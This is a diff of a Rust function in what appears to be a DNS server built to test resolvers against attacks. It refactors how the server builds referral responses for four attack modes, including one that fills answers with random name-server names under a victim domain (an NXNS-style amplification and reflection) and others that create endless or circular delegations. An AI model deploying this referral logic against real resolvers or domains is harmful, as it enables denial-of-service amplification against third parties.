@@ -244,18 +244,14 @@ fn reply(asked: &Message, attack: Attack) -> Option<Message> {
     let server = Name::from_ascii("ns1").ok()?.append_domain(&zone).ok()?;
 
     match attack {
-        Attack::Endless | Attack::Reflected | Attack::Circling | Attack::Hollow if name != server => {
+        Attack::Hollow if name != server => return hollow(asked, &zone),
+        Attack::Endless | Attack::Reflected | Attack::Circling if name != server => {
             message.set_authoritative(false);
-            let owner = if attack == Attack::Circling { zone.clone() } else { name.clone() };
+            let owner = if attack == Attack::Circling { &zone } else { &name };
+            let above = if attack == Attack::Reflected { format!("{}.", VICTIM.0) } else { zone.to_string() };
             for number in 0..12 {
-                let target = match attack {
-                    Attack::Reflected => {
-                        Name::from_ascii(format!("n{}-{number}.{}.", rand::random::<u32>(), VICTIM.0))
-                    }
-                    Attack::Hollow => return hollow(asked, &zone),
-                    _ => Name::from_ascii(format!("n{}-{number}.{zone}", rand::random::<u32>())),
-                };
-                message.add_name_server(Record::from_rdata(owner.clone(), TTL, RData::NS(NS(target.ok()?))));
+                let target = Name::from_ascii(format!("n{}-{number}.{above}", rand::random::<u32>())).ok()?;
+                message.add_name_server(Record::from_rdata(owner.clone(), TTL, RData::NS(NS(target))));
             }
             return Some(message);
         }
